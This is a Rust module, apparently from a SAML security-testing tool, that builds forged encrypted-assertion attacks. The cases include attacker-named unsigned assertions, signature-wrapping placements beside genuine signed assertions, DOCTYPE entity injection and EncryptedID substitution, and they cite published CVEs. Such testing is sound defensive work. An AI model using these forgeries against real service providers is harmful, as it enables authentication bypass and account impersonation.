//! Attacks with encryption: everyone has the SP's public key, so an encrypted Assertion proves nothing about its sender.

use super::{Attack, ORDINARY, WRAPPING};
use crate::key;
use crate::names;
use crate::recipe::{Recipe, RecipeError};
use crate::step::Step;
use crate::tree::Element;
use crate::workshop::Workshop;

/// A forgery that nobody signed, or only the attacker, encrypted for the SP.
const ENCRYPTED: Attack =
    Attack { forges: true, live: false, needs: "encryption", applies: |recipe| recipe.encrypt.is_some(), ..ORDINARY };

pub(super) const ENCRYPTED_FORGERY: Attack = Attack {
    id: "encrypted_forgery",
    about: "An encrypted Assertion that names the attacker, without any signature, inside or outside.",
    source: "ENC-01; CVE-2024-9487",
    steps: &[Step::Signed(encrypted_forgery)],
    ..ENCRYPTED
};

fn encrypted_forgery(workshop: &mut Workshop<'_>) -> Result<(), RecipeError> {
    workshop.response = workshop.forged_response()?;
    workshop.encrypt_assertion()
}

pub(super) const ENCRYPTED_OTHER_KEY: Attack = Attack {
    id: "encrypted_other_key",
    about: "An encrypted Assertion that names the attacker, signed inside with the attacker's key.",
    source: "ENC-01; KEY-01; ruby-saml's encrypted fixtures",
    steps: &[Step::Signed(encrypted_other_key)],
    ..ENCRYPTED
};

fn encrypted_other_key(workshop: &mut Workshop<'_>) -> Result<(), RecipeError> {
    workshop.response = workshop.forged_response()?;
    workshop.plan = workshop.attacker_plan(workshop.plan.certificates.clone());
    workshop.sign_assertion()?;
    workshop.encrypt_assertion()
}

pub(super) const ENCRYPTED_RESPONSE: Attack = Attack {
    id: "encrypted_response",
    about: "What decrypts is a whole forged Response instead of one Assertion.",
    source: "XSW-11; ENC-09; core 2.3.4",
    steps: &[Step::Signed(encrypted_response)],
    ..ENCRYPTED
};

fn encrypted_response(workshop: &mut Workshop<'_>) -> Result<(), RecipeError> {
    let forged = workshop.forged_response()?;
    workshop.response = workshop.forged_response()?;
    let plaintext = workshop.plaintext(&forged);
    replace_assertion(workshop, &plaintext)
}

pub(super) const ENCRYPTED_TWO_ASSERTIONS: Attack = Attack {
    id: "encrypted_two_assertions",
    about: "What decrypts is two Assertions, forged both.",
    source: "XSW-11; ENC-09; core 2.3.4",
    steps: &[Step::Signed(encrypted_two_assertions)],
    ..ENCRYPTED
};

fn encrypted_two_assertions(workshop: &mut Workshop<'_>) -> Result<(), RecipeError> {
    workshop.response = workshop.forged_response()?;
    let forged = [workshop.forged_assertion()?, workshop.forged_assertion()?];
    let plaintext = forged.map(|assertion| workshop.plaintext(&assertion)).concat();
    replace_assertion(workshop, &plaintext)
}

pub(super) const ENCRYPTED_DOCTYPE: Attack = Attack {
    id: "encrypted_doctype",
    about: "What decrypts is a document type declaration with an entity, and a forged Assertion that uses it.",
    source: "ENC-09; XML-01",
    steps: &[Step::Signed(encrypted_doctype)],
    ..ENCRYPTED
};

fn encrypted_doctype(workshop: &mut Workshop<'_>) -> Result<(), RecipeError> {
    workshop.response = workshop.forged_response()?;
    let name = workshop.recipe.attacker.user_name.clone();
    let forged = workshop.forged_assertion()?;
    let assertion = workshop.plaintext(&forged).replace(&name, "&name;");
    replace_assertion(workshop, &format!(r#"<!DOCTYPE a [<!ENTITY name "{name}">]>{assertion}"#))
}

fn replace_assertion(workshop: &mut Workshop<'_>, plaintext: &str) -> Result<(), RecipeError> {
    let place = workshop.response.position("Assertion").unwrap_or_default();
    workshop.take_assertion()?;
    let encrypted = workshop.sealed(plaintext)?;
    workshop.response.insert(place, encrypted);
    Ok(())
}

/// A forged, encrypted Assertion beside a genuine one whose own signature stays live.
const BESIDE: Attack = Attack {
    needs: "a signed Assertion that is not encrypted, and an SP with an encryption certificate",
    applies: can_stand_beside,
    ..WRAPPING
};

fn can_stand_beside(recipe: &Recipe) -> bool {
    super::has_signed_assertion(recipe) && recipe.sp.encryption_certificate.is_some()
}

pub(super) const ENCRYPTED_BESIDE: Attack = Attack {
    id: "encrypted_beside",
    about: "A forged, unsigned Assertion, encrypted for the SP, stands before the genuine, signed one.",
    source: "XSW-11; CVE-2024-9487; CVE-2026-2092",
    steps: &[Step::Signed(encrypted_beside)],
    ..BESIDE
};

fn encrypted_beside(workshop: &mut Workshop<'_>) -> Result<(), RecipeError> {
    workshop.strip_response_signature();
    let encrypted = encrypted_forged_assertion(workshop)?;
    let place = workshop.response.position("Assertion").unwrap_or_default();
    workshop.response.insert(place, encrypted);
    Ok(())
}

pub(super) const ENCRYPTED_BEHIND: Attack = Attack {
    id: "encrypted_behind",
    about: "A forged, unsigned Assertion, encrypted for the SP, stands behind the genuine, signed one.",
    source: "XSW-11; CVE-2026-2092",
    steps: &[Step::Signed(encrypted_behind)],
    ..BESIDE
};

fn encrypted_behind(workshop: &mut Workshop<'_>) -> Result<(), RecipeError> {
    workshop.strip_response_signature();
    let encrypted = encrypted_forged_assertion(workshop)?;
    workshop.response.push(encrypted);
    Ok(())
}

pub(super) const SIGNED_IN_ENCRYPTED_FORGERY: Attack = Attack {
    id: "signed_in_encrypted_forgery",
    about: "What decrypts is a forged Assertion; the genuine, signed one stands in clear in the Extensions.",
    source: "XSW-11; XSW-10; ruby-saml's encrypted_new_attack",
    steps: &[Step::Signed(signed_in_encrypted_forgery)],
    ..BESIDE
};

fn signed_in_encrypted_forgery(workshop: &mut Workshop<'_>) -> Result<(), RecipeError> {
    workshop.strip_response_signature();
    let encrypted = encrypted_forged_assertion(workshop)?;
    let place = workshop.response.position("Assertion").unwrap_or_default();
    let genuine = workshop.take_assertion()?;
    workshop.response.insert(place, encrypted);
    super::tools::put_in_extensions(workshop, genuine);
    Ok(())
}

fn encrypted_forged_assertion(workshop: &mut Workshop<'_>) -> Result<Element, RecipeError> {
    let forged = workshop.forged_assertion()?;
    workshop.encrypted(&forged)
}

pub(super) const TWO_ENCRYPTED_ASSERTIONS: Attack = Attack {
    id: "two_encrypted_assertions",
    about: "A forged EncryptedAssertion stands before the genuine one, which is signed inside.",
    source: "XSW-11; CVE-2024-9487",
    needs: "encryption and a signed Assertion",
    applies: super::has_encrypted_signed_assertion,
    steps: &[Step::Signed(two_encrypted_assertions)],
    ..ENCRYPTED
};

fn two_encrypted_assertions(workshop: &mut Workshop<'_>) -> Result<(), RecipeError> {
    workshop.strip_response_signature();
    let encrypted = encrypted_forged_assertion(workshop)?;
    let place = workshop.response.position("EncryptedAssertion").unwrap_or_default();
    workshop.response.insert(place, encrypted);
    Ok(())
}

pub(super) const ENCRYPTED_FOR_ANOTHER: Attack = Attack {
    id: "encrypted_for_another",
    about: "The genuine, signed Assertion is encrypted for somebody else's key.",
    source: "ENC-12; ENC-07",
    live: false,
    needs: "encryption and a signed Assertion",
    applies: super::has_encrypted_signed_assertion,
    steps: &[Step::Signed(encrypted_for_another)],
    ..ORDINARY
};

fn encrypted_for_another(workshop: &mut Workshop<'_>) -> Result<(), RecipeError> {
    workshop.strip_response_signature();
    let other = crate::idp::issue(&workshop.recipe.vendor.shape().certificate, &key::attacker());
    let place = workshop.response.position("EncryptedAssertion").unwrap_or_default();
    let encrypted = workshop.sealed_for(Some(&other), "<Assertion/>")?;
    workshop.response.take("EncryptedAssertion");
    workshop.response.insert(place, encrypted);
    Ok(())
}

pub(super) const ENCRYPTED_ID_HOLDS_ANOTHER: Attack = Attack {
    id: "encrypted_id_holds_another",
    about: "The Subject's EncryptedID decrypts to an Issuer instead of a NameID, under a genuine signature.",
    source: "TXT-04; java-saml's encrypted SubjectConfirmation fixture; core 2.2.4",
    needs: "a signed message that is not encrypted, and an SP with an encryption certificate",
    applies: |recipe| super::is_signed_plain(recipe) && recipe.sp.encryption_certificate.is_some(),
    steps: &[Step::Tree(encrypted_id_holds_another)],
    ..ORDINARY
};

fn encrypted_id_holds_another(workshop: &mut Workshop<'_>) -> Result<(), RecipeError> {
    let name = workshop.draft.name_id.clone().unwrap_or_default();
    let other = format!(r#"<Issuer xmlns="{}">{name}</Issuer>"#, names::SAML);
    let encrypted = workshop.sealed(&other)?;
    let mut id = super::tools::saml("EncryptedID");
    id.children = encrypted.children;
    let subject = workshop.assertion()?.child_mut("Subject").ok_or(RecipeError::Missing("Subject"))?;
    subject.take("NameID");
    subject.insert(0, id);
    Ok(())
}
